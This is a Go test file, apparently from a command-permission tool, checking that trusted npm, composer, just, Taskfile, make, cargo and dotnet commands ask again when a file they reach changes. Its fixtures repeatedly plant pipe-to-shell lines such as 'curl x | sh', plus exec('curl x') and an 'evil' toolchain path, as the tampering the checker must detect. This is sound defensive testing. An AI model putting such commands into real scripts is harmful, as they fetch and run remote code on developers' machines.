// SPDX-License-Identifier: Apache-2.0

package permissions

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"memo.dev/projects/domain/permissions/internal/fixture"
	"memo.dev/projects/domain/permissions/verdict"

	"memo.dev/projects/domain/permissions/projectfiles"
)

// runnerCase is one member of the class "definitions, complete per
// runner": a project, a rule, the definitions it must reach, and a change
// after trust that must make the rule's line ask, naming the file.
type runnerCase struct {
	name  string
	files map[string]string
	rule  string
	// line is the line checked (the rule when "").
	line  string
	reach []string
	// change is written after trust; the line then asks naming file
	// (and key, when given).
	change, content, key string
}

func runnerProject(t *testing.T, files map[string]string) string {
	t.Helper()
	root := fixture.Repo(t, fixture.CleanConfig)
	for name, content := range files {
		mode := os.FileMode(0o644)
		if strings.HasSuffix(name, ".sh") || !strings.Contains(filepath.Base(name), ".") {
			mode = 0o755
		}
		fixture.Write(t, filepath.Join(root, filepath.FromSlash(name)), content, mode)
	}
	return root
}

func runDefinitionCases(t *testing.T, cases []runnerCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			root := runnerProject(t, c.files)
			rules := []string{c.rule}
			line := c.line
			if line == "" {
				line = c.rule
			}
			p := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil)
			defs, _ := p.Definitions(c.rule)
			got := fixture.Keys(defs)
			for _, want := range c.reach {
				if !strings.Contains(" "+got+" ", " "+want+" ") {
					t.Errorf("%s reaches\n got %s\nwant %s among them", c.rule, got, want)
				}
			}
			trusted := p.WithPinned(p.AllDefinitions(rules))
			if v := verdict.NewChecker(rules).CheckIn(line, trusted); !v.Approved {
				t.Fatalf("%s right after trust: %+v", line, v)
			}
			fixture.Write(t, filepath.Join(root, filepath.FromSlash(c.change)), c.content, 0o755)
			v := verdict.NewChecker(rules).CheckIn(line, trusted)
			if v.Approved || v.BlockedBy == nil || v.BlockedBy.File != c.change || (c.key != "" && v.BlockedBy.Key != c.key) {
				t.Errorf("%s after %s changed: %+v, want it to ask naming %s %s", line, c.change, v, c.change, c.key)
			}
			again := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil)
			if v := verdict.NewChecker(rules).CheckIn(line, again.WithPinned(again.AllDefinitions(rules))); !v.Approved {
				t.Errorf("%s trusted again: %+v", line, v)
			}
		})
	}
}

const memberTest = `{"scripts": {"test": "jest"}}`

// Workspaces: a root script that runs in every member reaches each
// member's script; a rule that selects them does too; a member added
// after trust asks until shown and trusted; the workspace patterns the
// managers read ({a,b}, **) find every member.
func TestDefinitionsOfWorkspaces(t *testing.T) {
	npmRoot := `{"workspaces": ["packages/*"], "scripts": {"test": "npm run test --workspaces"}}`
	runDefinitionCases(t, []runnerCase{
		{name: "npm run test --workspaces in a root script",
			files: map[string]string{"package.json": npmRoot, "packages/a/package.json": memberTest},
			rule:  "npm test", reach: []string{"packages/a/package.json#scripts.test", "packages/a/package.json#scripts.pretest(absent)"},
			change: "packages/a/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "npm test -ws in a root script",
			files: map[string]string{"package.json": `{"workspaces": ["packages/*"], "scripts": {"check": "npm test -ws"}}`, "packages/a/package.json": memberTest},
			rule:  "npm run check", reach: []string{"packages/a/package.json#scripts.test"},
			change: "packages/a/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "pnpm -r test in a root script",
			files: map[string]string{"package.json": `{"scripts": {"test": "pnpm -r --parallel test"}}`, "pnpm-workspace.yaml": "packages:\n  - 'apps/*'\n", "apps/web/package.json": memberTest},
			rule:  "pnpm test", reach: []string{"apps/web/package.json#scripts.test"},
			change: "apps/web/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "pnpm --recursive run test in a root script",
			files: map[string]string{"package.json": `{"scripts": {"test": "pnpm --recursive run test"}}`, "pnpm-workspace.yaml": "packages:\n  - 'apps/*'\n", "apps/web/package.json": memberTest},
			rule:  "pnpm test", reach: []string{"apps/web/package.json#scripts.test"},
			change: "apps/web/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "yarn workspaces foreach in a root script",
			files: map[string]string{"package.json": `{"workspaces": ["packages/*"], "scripts": {"test": "yarn workspaces foreach -A --parallel run test"}}`, "packages/a/package.json": memberTest},
			rule:  "yarn test", reach: []string{"packages/a/package.json#scripts.test"},
			change: "packages/a/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "turbo run test in a root script",
			files: map[string]string{"package.json": `{"workspaces": ["packages/*"], "scripts": {"test": "turbo run test --filter=!docs"}}`, "packages/a/package.json": memberTest},
			rule:  "npm test", reach: []string{"packages/a/package.json#scripts.test"},
			change: "packages/a/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "lerna run test in a root script",
			files: map[string]string{"package.json": `{"workspaces": ["packages/*"], "scripts": {"test": "lerna run test --stream"}}`, "packages/a/package.json": memberTest},
			rule:  "npm test", reach: []string{"packages/a/package.json#scripts.test"},
			change: "packages/a/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "nx run-many -t test in a root script",
			files: map[string]string{"package.json": `{"workspaces": ["packages/*"], "scripts": {"test": "nx run-many -t lint,test"}}`, "packages/a/package.json": memberTest},
			rule:  "npm test", reach: []string{"packages/a/package.json#scripts.test"},
			change: "packages/a/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "npm test -ws as the rule",
			files: map[string]string{"package.json": `{"workspaces": ["packages/*"]}`, "packages/a/package.json": memberTest},
			rule:  "npm test -ws", reach: []string{"packages/a/package.json#scripts.test"},
			change: "packages/a/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "a member added after trust",
			files:  map[string]string{"package.json": npmRoot, "packages/a/package.json": memberTest},
			rule:   "npm test",
			change: "packages/b/package.json", content: `{"scripts": {"test": "curl x | sh"}}`},
		{name: "a member under a {a,b} pattern",
			files: map[string]string{"package.json": `{"workspaces": ["{apps,libs}/*"], "scripts": {"test": "npm test --workspaces"}}`, "libs/core/package.json": memberTest},
			rule:  "npm test", reach: []string{"libs/core/package.json#scripts.test"},
			change: "libs/core/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		{name: "a member deep under **",
			files: map[string]string{"package.json": `{"workspaces": {"packages": ["packages/**"]}, "scripts": {"test": "npm test --workspaces"}}`, "packages/a/b/c/d/e/package.json": memberTest},
			rule:  "npm test", reach: []string{"packages/a/b/c/d/e/package.json#scripts.test"},
			change: "packages/a/b/c/d/e/package.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
	})
	// A folder under the pattern without a package.json is no member: a
	// new one (docs, fixtures) changes nothing.
	root := runnerProject(t, map[string]string{"package.json": npmRoot, "packages/a/package.json": memberTest})
	p := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil)
	trusted := p.WithPinned(p.AllDefinitions([]string{"npm test"}))
	fixture.Write(t, filepath.Join(root, "packages", "notes", "README.md"), "x\n", 0o644)
	if v := verdict.NewChecker([]string{"npm test"}).CheckIn("npm test", trusted); !v.Approved {
		t.Errorf("npm test after a folder without package.json appeared under packages/: %+v", v)
	}
}

// Composer: a script run as `composer NAME`, `composer run-script NAME`
// or `composer run NAME` reaches the same scripts, with those it names as
// @other; scripts-aliases name a script; --working-dir reads another
// composer.json.
func TestDefinitionsOfComposerScripts(t *testing.T) {
	composer := `{"scripts": {"test": ["@lint", "phpunit"], "lint": "phpcs", "stan": "phpstan"}, "scripts-aliases": {"stan": ["analyse"]}}`
	var cases []runnerCase
	for _, rule := range []string{"composer test", "composer run-script test", "composer run test"} {
		cases = append(cases, runnerCase{name: rule + " reaches @lint",
			files: map[string]string{"composer.json": composer},
			rule:  rule, reach: []string{"composer.json#scripts.test", "composer.json#scripts.lint"},
			change: "composer.json", content: strings.Replace(composer, `"phpcs"`, `"curl x | sh"`, 1), key: "scripts.lint"})
	}
	cases = append(cases,
		runnerCase{name: "a scripts-alias",
			files: map[string]string{"composer.json": composer},
			rule:  "composer analyse", reach: []string{"composer.json#scripts.stan"},
			change: "composer.json", content: strings.Replace(composer, `"phpstan"`, `"curl x | sh"`, 1), key: "scripts.stan"},
		runnerCase{name: "--working-dir",
			files: map[string]string{"composer.json": `{}`, "app/composer.json": `{"scripts": {"test": "phpunit"}}`},
			rule:  "composer --working-dir=app test", reach: []string{"app/composer.json#scripts.test"},
			change: "app/composer.json", content: `{"scripts": {"test": "curl x | sh"}}`, key: "scripts.test"},
		runnerCase{name: "@composer in a script runs another script",
			files: map[string]string{"composer.json": `{"scripts": {"ci": "@composer run-script check", "check": "phpcs"}}`},
			rule:  "composer ci", reach: []string{"composer.json#scripts.check"},
			change: "composer.json", content: `{"scripts": {"ci": "@composer run-script check", "check": "curl x | sh"}}`, key: "scripts.check"},
	)
	runDefinitionCases(t, cases)
}

// just and task: the files a justfile imports (import, import?) and its
// modules (mod), a Taskfile's includes, each followed.
func TestDefinitionsOfRecipeFiles(t *testing.T) {
	runDefinitionCases(t, []runnerCase{
		{name: "justfile import",
			files: map[string]string{"justfile": "import 'just/common.just'\n\ntest:\n    cargo test\n", "just/common.just": "lint:\n    cargo clippy\n"},
			rule:  "just lint", reach: []string{"justfile#", "just/common.just#"},
			change: "just/common.just", content: "lint:\n    curl x | sh\n"},
		{name: "justfile import? of a file that appears later",
			files: map[string]string{"justfile": "import? 'local.just'\n\ntest:\n    cargo test\n"},
			rule:  "just test", reach: []string{"local.just#(absent)"},
			change: "local.just", content: "test:\n    curl x | sh\n"},
		{name: "justfile mod NAME",
			files: map[string]string{"justfile": "mod docs\n\ntest:\n    cargo test\n", "docs/justfile": "build:\n    mdbook build\n"},
			rule:  "just docs build", reach: []string{"docs/justfile#"},
			change: "docs/justfile", content: "build:\n    curl x | sh\n"},
		{name: "justfile mod NAME PATH",
			files: map[string]string{"justfile": "mod? ci 'tools/ci.just'\n", "tools/ci.just": "check:\n    ./check.sh\n"},
			rule:  "just ci check", reach: []string{"tools/ci.just#"},
			change: "tools/ci.just", content: "check:\n    curl x | sh\n"},
		{name: "justfile set working-directory",
			files: map[string]string{"justfile": "set working-directory := 'web'\n\nbuild:\n    ./build.sh\n", "web/build.sh": "npm run build\n"},
			rule:  "just build", reach: []string{"web/build.sh#"},
			change: "web/build.sh", content: "curl x | sh\n"},
		{name: "Taskfile includes",
			files: map[string]string{"Taskfile.yml": "version: '3'\nincludes:\n  docs: ./docs\n  lint:\n    taskfile: ./tasks/lint.yml\n    dir: ./src\n", "docs/Taskfile.yml": "version: '3'\n", "tasks/lint.yml": "version: '3'\ntasks:\n  run:\n    cmds:\n      - golangci-lint run\n"},
			rule:  "task lint:run", reach: []string{"Taskfile.yml#", "docs/Taskfile.yml#", "tasks/lint.yml#"},
			change: "tasks/lint.yml", content: "version: '3'\ntasks:\n  run:\n    cmds:\n      - curl x | sh\n"},
		{name: "Taskfile include of a folder whose Taskfile appears later",
			files: map[string]string{"Taskfile.yml": "version: '3'\nincludes:\n  docs:\n    taskfile: ./docs\n    optional: true\n"},
			rule:  "task build", reach: []string{"docs/Taskfile.yml#(absent)"},
			change: "docs/Taskfile.yml", content: "version: '3'\ntasks:\n  build: curl x | sh\n"},
	})
	// set fallback: the justfile of the folder above is pinned too; at
	// the project's root, just would look outside it, so its lines ask.
	root := runnerProject(t, map[string]string{"justfile": "test:\n    go test\n", "sub/justfile": "set fallback\nbuild:\n    make\n"})
	defs, problem := verdict.NewProject(root, filepath.Join(root, "sub"), projectfiles.OSGitFS(""), nil).Definitions("just test")
	if got := fixture.Keys(defs); !problem.IsZero() || !strings.Contains(" "+got+" ", " justfile# ") || !strings.Contains(got, "sub/justfile#") {
		t.Errorf("just test in sub with set fallback reaches %s (%s), want both justfiles", got, problem)
	}
	root = runnerProject(t, map[string]string{"justfile": "set fallback := true\ntest:\n    go test\n"})
	if _, problem := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil).Definitions("just test"); problem.IsZero() {
		t.Errorf("just test with set fallback at the project's root: no problem, want it to ask")
	}
	// A recipe's [working-directory]: Memo cannot tell where ./x.sh is.
	root = runnerProject(t, map[string]string{"justfile": "[working-directory('web')]\nbuild:\n    ./build.sh\n"})
	defs, _ = verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil).Definitions("just build")
	if labels := labelsOf("just build", projectfiles.CompareDefinitions(defs, nil)); !strings.Contains(labels, "does not follow `./build.sh`") {
		t.Errorf("just build with [working-directory] labels %q, want ./build.sh not followed", labels)
	}
	// An include Memo cannot place asks.
	for _, files := range []map[string]string{
		{"Taskfile.yml": "version: '3'\nincludes:\n  remote: https://example.com/Taskfile.yml\n"},
		{"Taskfile.yml": "version: '3'\nincludes:\n  os: ./Taskfile_{{OS}}.yml\n"},
		{"Taskfile.yml": "version: '3'\nincludes:\n  up: ../other/Taskfile.yml\n"},
		{"justfile": "import '../shared.just'\n"},
		{"justfile": "import '~/.config/just/common.just'\n"},
	} {
		root := runnerProject(t, files)
		rule := "task build"
		if _, ok := files["justfile"]; ok {
			rule = "just test"
		}
		if _, problem := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil).Definitions(rule); problem.IsZero() {
			t.Errorf("%s with %q: no problem, want the include named", rule, files)
		}
	}
}

// make: what the makefiles include by a pattern or through a variable,
// and the makefiles of `$(MAKE) -C dir` and `make -C dir` in a recipe or
// a script.
func TestDefinitionsOfMakeIncludes(t *testing.T) {
	runDefinitionCases(t, []runnerCase{
		{name: "include mk/*.mk",
			files: map[string]string{"Makefile": "include mk/*.mk\ntest:\n\tgo test ./...\n", "mk/go.mk": "lint:\n\tgo vet ./...\n"},
			rule:  "make test", reach: []string{"Makefile#", "mk/go.mk#"},
			change: "mk/go.mk", content: "lint:\n\tcurl x | sh\n"},
		{name: "a file matching the pattern added later",
			files:  map[string]string{"Makefile": "-include mk/*.mk\ntest:\n\tgo test ./...\n", "mk/go.mk": "X = 1\n"},
			rule:   "make test",
			change: "mk/zz.mk", content: "test:\n\tcurl x | sh\n"},
		{name: "-include $(wildcard *.mk)",
			files: map[string]string{"Makefile": "-include $(wildcard *.mk)\ntest:\n\tgo test ./...\n", "local.mk": "X = 1\n"},
			rule:  "make test", reach: []string{"local.mk#"},
			change: "local.mk", content: "test:\n\tcurl x | sh\n"},
		{name: "include through a variable",
			files: map[string]string{"Makefile": "MK := build/rules.mk\ninclude $(MK)\ntest:\n\tgo test\n", "build/rules.mk": "X = 1\n"},
			rule:  "make test", reach: []string{"build/rules.mk#"},
			change: "build/rules.mk", content: "test:\n\tcurl x | sh\n"},
		{name: "include through a variable set by +=",
			files: map[string]string{"Makefile": "MK := a.mk\nMK += b.mk\ninclude $(MK)\ntest:\n\tgo test\n", "a.mk": "X = 1\n", "b.mk": "Y = 1\n"},
			rule:  "make test", reach: []string{"a.mk#", "b.mk#"},
			change: "a.mk", content: "test:\n\tcurl x | sh\n"},
		{name: "$(MAKE) -C dir in a recipe",
			files: map[string]string{"Makefile": "test:\n\t$(MAKE) -C native test\n", "native/Makefile": "test:\n\tcc -o t t.c\n"},
			rule:  "make test", reach: []string{"native/Makefile#"},
			change: "native/Makefile", content: "test:\n\tcurl x | sh\n"},
		{name: "cd dir && $(MAKE) in a recipe",
			files: map[string]string{"Makefile": "test:\n\tcd native && $(MAKE) test\n", "native/Makefile": "test:\n\tcc -o t t.c\n"},
			rule:  "make test", reach: []string{"native/Makefile#"},
			change: "native/Makefile", content: "test:\n\tcurl x | sh\n"},
		{name: "make -C dir in a package.json script",
			files: map[string]string{"package.json": `{"scripts": {"build": "make -C native all"}}`, "native/GNUmakefile": "all:\n\tcc -o t t.c\n"},
			rule:  "npm run build", reach: []string{"native/GNUmakefile#"},
			change: "native/GNUmakefile", content: "all:\n\tcurl x | sh\n"},
		{name: "$(MAKE) -f other.mk in a recipe",
			files: map[string]string{"Makefile": "test:\n\t$(MAKE) -f ci.mk check\n", "ci.mk": "check:\n\tgo vet\n"},
			rule:  "make test", reach: []string{"ci.mk#"},
			change: "ci.mk", content: "check:\n\tcurl x | sh\n"},
	})
}

// npm restart runs restart, or stop then start, each with its pre and
// post scripts; npm start without a start script runs node server.js.
func TestDefinitionsOfNpmLifecycle(t *testing.T) {
	pkg := `{"scripts": {"stop": "pkill node", "start": "node app.js"}}`
	runDefinitionCases(t, []runnerCase{
		{name: "npm restart runs stop",
			files: map[string]string{"package.json": pkg, "app.js": "x\n"},
			rule:  "npm restart", reach: []string{"package.json#scripts.stop", "package.json#scripts.start", "package.json#scripts.restart(absent)", "package.json#scripts.prestop(absent)", "package.json#scripts.poststart(absent)", "package.json#scripts.prerestart(absent)"},
			change: "package.json", content: strings.Replace(pkg, "pkill node", "curl x | sh", 1), key: "scripts.stop"},
		{name: "npm restart with a restart added later",
			files:  map[string]string{"package.json": pkg, "app.js": "x\n"},
			rule:   "npm restart",
			change: "package.json", content: strings.Replace(pkg, `"stop"`, `"restart": "curl x | sh", "stop"`, 1), key: "scripts.restart"},
		{name: "npm restart with a prestart added later",
			files:  map[string]string{"package.json": pkg, "app.js": "x\n"},
			rule:   "npm restart",
			change: "package.json", content: strings.Replace(pkg, `"stop"`, `"prestart": "curl x | sh", "stop"`, 1), key: "scripts.prestart"},
		{name: "npm start without a start script",
			files: map[string]string{"package.json": `{"scripts": {}}`, "server.js": "require('http')\n"},
			rule:  "npm start", reach: []string{"server.js#"},
			change: "server.js", content: "require('child_process').exec('curl x')\n"},
	})
}

// cargo: the toolchain files rustup reads, rust-toolchain without an
// extension beside rust-toolchain.toml; a toolchain given by path blocks
// in either.
func TestDefinitionsOfRustToolchain(t *testing.T) {
	runDefinitionCases(t, []runnerCase{
		{name: "rust-toolchain",
			files: map[string]string{"Cargo.toml": "[package]\nname = \"x\"\n", "rust-toolchain": "1.80.0\n"},
			rule:  "cargo build", reach: []string{"rust-toolchain#", "rust-toolchain.toml#(absent)"},
			change: "rust-toolchain", content: "nightly-2020-01-01\n"},
		{name: "rust-toolchain.toml",
			files: map[string]string{"Cargo.toml": "[package]\nname = \"x\"\n", "rust-toolchain.toml": "[toolchain]\nchannel = \"1.80.0\"\n"},
			rule:  "cargo test", reach: []string{"rust-toolchain.toml#"},
			change: "rust-toolchain.toml", content: "[toolchain]\nchannel = \"nightly\"\n"},
		{name: "rust-toolchain added later",
			files:  map[string]string{"Cargo.toml": "[package]\nname = \"x\"\n", "rust-toolchain.toml": "[toolchain]\nchannel = \"1.80.0\"\n"},
			rule:   "cargo test",
			change: "rust-toolchain", content: "nightly\n"},
	})
	for _, content := range []string{"/opt/evil-toolchain\n", "[toolchain]\npath = \"/opt/evil\"\n"} {
		root := runnerProject(t, map[string]string{"Cargo.toml": "[package]\nname = \"x\"\n", "rust-toolchain": content})
		rules := []string{"cargo build"}
		if v := verdict.NewChecker(rules).CheckIn("cargo build", verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil)); v.Approved || v.BlockedBy == nil || v.BlockedBy.File != "rust-toolchain" {
			t.Errorf("cargo build with rust-toolchain %q: %+v, want it blocked by rust-toolchain", content, v)
		}
	}
}

// Project files a definition names as a program or script to run are
// followed within the project and pinned: the script a recipe or a
// package.json script runs, a file a shell script sources, a script run
// after a cd.
func TestDefinitionsFollowNamedScripts(t *testing.T) {
	runDefinitionCases(t, []runnerCase{
		{name: "./scripts/x.sh in a package.json script",
			files: map[string]string{"package.json": `{"scripts": {"test": "./scripts/test.sh --ci"}}`, "scripts/test.sh": "#!/bin/sh\ngo test\n"},
			rule:  "npm test", reach: []string{"scripts/test.sh#"},
			change: "scripts/test.sh", content: "#!/bin/sh\ncurl x | sh\n"},
		{name: "node scripts/x.js in a package.json script",
			files: map[string]string{"package.json": `{"scripts": {"build": "NODE_ENV=production node scripts/build.js && tsc"}}`, "scripts/build.js": "console.log(1)\n"},
			rule:  "npm run build", reach: []string{"scripts/build.js#"},
			change: "scripts/build.js", content: "require('child_process').exec('curl x')\n"},
		{name: "python tools/y.py in a Makefile recipe",
			files: map[string]string{"Makefile": "check:\n\t@python3 tools/check.py --strict\n", "tools/check.py": "print(1)\n"},
			rule:  "make check", reach: []string{"tools/check.py#"},
			change: "tools/check.py", content: "import os; os.system('curl x')\n"},
		{name: "bash ci/z.sh in a Makefile recipe",
			files: map[string]string{"Makefile": "ci:\n\t-bash ci/run.sh\n", "ci/run.sh": "echo ok\n"},
			rule:  "make ci", reach: []string{"ci/run.sh#"},
			change: "ci/run.sh", content: "curl x | sh\n"},
		{name: "a file a script sources",
			files: map[string]string{"scripts/test.sh": "#!/bin/bash\nsource scripts/env.sh\n. ./scripts/more.sh\ngo test\n", "scripts/env.sh": "export X=1\n", "scripts/more.sh": "Y=2\n"},
			rule:  "./scripts/test.sh", reach: []string{"scripts/env.sh#", "scripts/more.sh#"},
			change: "scripts/more.sh", content: "curl x | sh\n"},
		{name: "a script a script runs",
			files: map[string]string{"package.json": `{"scripts": {"test": "bash scripts/a.sh"}}`, "scripts/a.sh": "./scripts/b.sh\n", "scripts/b.sh": "go test\n"},
			rule:  "npm test", reach: []string{"scripts/a.sh#", "scripts/b.sh#"},
			change: "scripts/b.sh", content: "curl x | sh\n"},
		{name: "a script run after cd",
			files: map[string]string{"Makefile": "e2e:\n\tcd e2e && ./run.sh\n", "e2e/run.sh": "go test\n"},
			rule:  "make e2e", reach: []string{"e2e/run.sh#"},
			change: "e2e/run.sh", content: "curl x | sh\n"},
		{name: "a script in a just recipe",
			files: map[string]string{"justfile": "test:\n    ./scripts/test.sh\n", "scripts/test.sh": "go test\n"},
			rule:  "just test", reach: []string{"scripts/test.sh#"},
			change: "scripts/test.sh", content: "curl x | sh\n"},
		{name: "a script in a Taskfile's cmds",
			files: map[string]string{"Taskfile.yml": "version: '3'\ntasks:\n  test:\n    cmds:\n      - bash scripts/test.sh\n", "scripts/test.sh": "go test\n"},
			rule:  "task test", reach: []string{"scripts/test.sh#"},
			change: "scripts/test.sh", content: "curl x | sh\n"},
		{name: "@php in a composer script",
			files: map[string]string{"composer.json": `{"scripts": {"gen": "@php bin/gen.php"}}`, "bin/gen.php": "<?php echo 1;\n"},
			rule:  "composer gen", reach: []string{"bin/gen.php#"},
			change: "bin/gen.php", content: "<?php system('curl x');\n"},
		{name: "a script in sh -c STRING",
			files: map[string]string{"package.json": `{"scripts": {"test": "sh -ec 'cd web && ./build.sh'"}}`, "web/build.sh": "go test\n"},
			rule:  "npm test", reach: []string{"web/build.sh#"},
			change: "web/build.sh", content: "curl x | sh\n"},
		{name: "a script under a wrapper Memo does not read",
			files: map[string]string{"package.json": `{"scripts": {"build": "cross-env NODE_ENV=production node scripts/build.js"}}`, "scripts/build.js": "console.log(1)\n"},
			rule:  "npm run build", reach: []string{"scripts/build.js#"},
			change: "scripts/build.js", content: "require('child_process').exec('curl x')\n"},
		{name: "a script under /usr/bin/env",
			files: map[string]string{"Makefile": "gen:\n\t/usr/bin/env python3 tools/gen.py\n\tenv -i ./tools/post.sh\n", "tools/gen.py": "print(1)\n", "tools/post.sh": "true\n"},
			rule:  "make gen", reach: []string{"tools/gen.py#", "tools/post.sh#"},
			change: "tools/post.sh", content: "curl x | sh\n"},
		{name: "bun FILE in a script",
			files: map[string]string{"package.json": `{"scripts": {"seed": "bun scripts/seed.ts"}}`, "scripts/seed.ts": "console.log(1)\n"},
			rule:  "npm run seed", reach: []string{"scripts/seed.ts#"},
			change: "scripts/seed.ts", content: "Bun.spawn(['curl', 'x'])\n"},
		{name: "a script named absent, added later",
			files: map[string]string{"package.json": `{"scripts": {"test": "sh scripts/gen.sh; jest"}}`},
			rule:  "npm test", reach: []string{"scripts/gen.sh#(absent)"},
			change: "scripts/gen.sh", content: "curl x | sh\n"},
	})
}

// What Memo does not follow is said in the rule's label: what a pinned
// JavaScript or Python script imports, and a command whose words are
// computed when it runs (a variable set nowhere, a loop's variable); a
// program the build made or the project installed is not pinned (it
// changes at every build or install) and asks nothing when it changes.
func TestDefinitionsNotFollowedAreLabelled(t *testing.T) {
	root := runnerProject(t, map[string]string{
		"package.json":                 `{"scripts": {"build": "node scripts/build.js", "e2e": "./node_modules/.bin/playwright test"}}`,
		"scripts/build.js":             "require('./lib')\n",
		"Makefile":                     "-include $(OBJS:.o=.d)\ntest: build\n\t$(PYTHON) tools/check.py\n\tfor d in $(DIRS); do $(MAKE) -C $$d; done\n\t./bin/app --selftest\n",
		"tools/check.py":               "print(1)\n",
		"bin/app":                      "\x7fELF\x00\x01binary",
		"node_modules/.bin/playwright": "#!/usr/bin/env node\n",
	})
	p := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil)
	cases := []struct {
		rule string
		want []string
	}{
		{"npm run build", []string{"pins scripts/build.js by their bytes; what they import or require is not followed"}},
		{"make test", []string{"does not follow `$(PYTHON) tools/check.py`, `./bin/app --selftest`, `include $(OBJS:.o=.d)`, `make -C $d`: what they run is not pinned"}},
	}
	for _, c := range cases {
		defs, _ := p.Definitions(c.rule)
		labels := labelsOf(c.rule, projectfiles.CompareDefinitions(defs, nil))
		for _, want := range c.want {
			if !strings.Contains(labels, want) {
				t.Errorf("%s labels\n got %s\nwant %s", c.rule, labels, want)
			}
		}
	}
	// What a pinned text runs that reaches outside the project is said
	// (of a makefile, every recipe's: the trust pins the whole file).
	out := verdict.NewProject(runnerProject(t, map[string]string{
		"Makefile":      "deps:\n\tsudo apt-get install -y valgrind\n\tgo install golang.org/x/tools/cmd/stringer@latest\n\tgo build ./...\nlint:\n\tgo run github.com/golangci/golangci-lint/cmd/golangci-lint@latest run\ntest:\n\tgo test ./...\n\trm -rf build\n",
		"scripts/up.sh": "#!/bin/sh\ndocker-compose up -d\n",
		"package.json":  `{"scripts": {"up": "./scripts/up.sh", "test": "node --test"}}`,
	}), "", projectfiles.OSGitFS(""), nil)
	for rule, want := range map[string]string{
		"make deps":  "reach outside the project: `go install golang.org/x/tools/cmd/stringer@latest`, `go run github.com/golangci/golangci-lint/cmd/golangci-lint@latest run`, `sudo apt-get install -y valgrind`",
		"npm run up": "reach outside the project: `docker-compose up -d`",
		"npm test":   "",
	} {
		defs, _ := out.Definitions(rule)
		labels := labelsOf(rule, projectfiles.CompareDefinitions(defs, nil))
		if want == "" && strings.Contains(labels, "reach outside") || want != "" && !strings.Contains(labels, want) {
			t.Errorf("%s labels\n got %s\nwant %q", rule, labels, want)
		}
	}
	// A ./path operand of a program is no script the command runs.
	q := verdict.NewProject(runnerProject(t, map[string]string{"package.json": `{"scripts": {"lint": "eslint --fix ./src && jest ./src/a.test.js"}}`, "src/a.test.js": "x\n"}), "", projectfiles.OSGitFS(""), nil)
	if defs, _ := q.Definitions("npm run lint"); strings.Contains(fixture.Keys(defs), "src") {
		t.Errorf("npm run lint pins its operands: %s", fixture.Keys(defs))
	}
	rules := []string{"make test", "npm run e2e"}
	trusted := p.WithPinned(p.AllDefinitions(rules))
	fixture.Write(t, filepath.Join(root, "bin", "app"), "\x7fELF\x00\x02rebuilt", 0o755)
	fixture.Write(t, filepath.Join(root, "node_modules", ".bin", "playwright"), "#!/usr/bin/env node\n// 1.2\n", 0o755)
	for _, line := range rules {
		if v := verdict.NewChecker(rules).CheckIn(line, trusted); !v.Approved {
			t.Errorf("%s after a build or an install: %+v", line, v)
		}
	}
}

// The readers of definition texts take any text: no panic, bounded output.
func FuzzDefinitionTexts(f *testing.F) {
	for _, seed := range []string{
		"npm run test --workspaces && ./scripts/x.sh",
		"cd sub && $(MAKE) -C ../x test; source ./env.sh",
		"MK := a.mk\nMK += $(MK) $(MK)\ninclude $(MK) $(wildcard *.mk)\ntest:\n\t@$(PYTHON) tools/y.py\n",
		"import? 'x.just'\nmod foo 'bar'\ntest:\n    ./t.sh {{arg}}\n",
		"version: '3'\nincludes:\n  a: ./a\ntasks:\n  t:\n    dir: x\n    cmds:\n      - bash s.sh\n      - cmd: ./x\n",
		"@php bin/x.php\n@composer run-script y\nFoo\\Bar::baz",
		"packages/{a,{b,c}}/**", "sh -c 'bash -c \"./x.sh\"'", "$(", "{{", "((",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, read := range []func(string, string) ([]projectfiles.Command, []string){projectfiles.ShellCommands, projectfiles.MakeCommands, projectfiles.JustCommands, projectfiles.TaskCommands, projectfiles.ComposerCommands} {
			cmds, _ := read(text, "/p")
			if len(cmds) > len(text)+1 {
				t.Fatalf("%d commands from %d bytes", len(cmds), len(text))
			}
		}
		_ = projectfiles.ParseJustfile(text)
		if len(projectfiles.ExpandBraces(text)) > 64 {
			t.Fatalf("expandBraces(%q) gives more than 64 patterns", text)
		}
		if got := projectfiles.MakeExpand(text, map[string]string{"X": "$(X)$(X)", "Y": text}); len(got) > 2*projectfiles.MaxExpanded+2*len(text)+64 {
			t.Fatalf("makeExpand grew %d bytes to %d", len(text), len(got))
		}
	})
}

// dotnet: a local tool (dotnet tool run NAME, dotnet NAME) is the one the
// project's manifest names, restored from NuGet at the version it pins: the
// manifest is pinned, in either place dotnet reads it, and a project without
// one asks, as dotnet would look above it.
func TestDefinitionsOfDotnetTools(t *testing.T) {
	const manifest = `{"version": 1, "isRoot": true, "tools": {"cake.tool": {"version": "4.0.0", "commands": ["dotnet-cake"]}}}`
	runDefinitionCases(t, []runnerCase{
		{name: "tool run",
			files: map[string]string{"build.cake": "Task(\"Test\");\n", ".config/dotnet-tools.json": manifest},
			rule:  "dotnet tool run dotnet-cake", line: "dotnet tool run dotnet-cake --target=Test",
			reach:  []string{".config/dotnet-tools.json#"},
			change: ".config/dotnet-tools.json", content: strings.Replace(manifest, "cake.tool", "evil.tool", 1)},
		{name: "shorthand, manifest at the root",
